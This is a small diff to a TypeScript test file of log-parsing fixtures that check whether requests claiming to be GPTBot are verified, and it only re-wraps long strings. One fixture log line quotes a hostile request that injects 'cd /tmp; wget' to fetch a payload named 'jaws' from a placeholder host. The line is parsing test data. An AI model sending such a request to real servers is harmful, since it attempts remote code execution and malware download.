@@ -101,7 +101,8 @@ const logs: LogReport[] = [
     before: 'the lines with an umlaut were bad',
     lines: [
       `{"ip": "${published}","path": "/a","status": "200","user_agent": "${gptBot}","date": "2026-11-05T10:00:00Z"}`,
-      `{"ip": "${published}","path": "/a","status": "200","user_agent": "GPTBot/1 F\\xFA","date": "2026-11-05T10:00:00Z"}`,
+      `{"ip": "${published}","path": "/a","status": "200","user_agent": "GPTBot/1 F\\xFA",` +
+        '"date": "2026-11-05T10:00:00Z"}',
     ],
     reading: ['verified', 'verified'],
   },
@@ -203,8 +204,8 @@ const logs: LogReport[] = [
     before: wasRight,
     lines: [
       `http 2026-11-05T10:00:00.051646Z app/lb/30 ${published}:41542 - -1 -1 -1 301 - 233 390 ` +
-        `"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws HTTP/1.1" "${gptBot}" - - - "Root=1-6" "-" "-" 0 ` +
-        '2026-11-05T10:00:00.051000Z "redirect" "https://127.0.0.1:443/" "-" "-" "-" "Acceptable" "SpaceInUri"',
+        `"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws HTTP/1.1" "${gptBot}" - - - "Root=1-6" ` +
+        '"-" "-" 0 2026-11-05T10:00:00.051000Z "redirect" "https://127.0.0.1:443/" "-" "-" "-" "Acceptable" "SpaceInUri"',
     ],
     reading: ['verified'],
   },
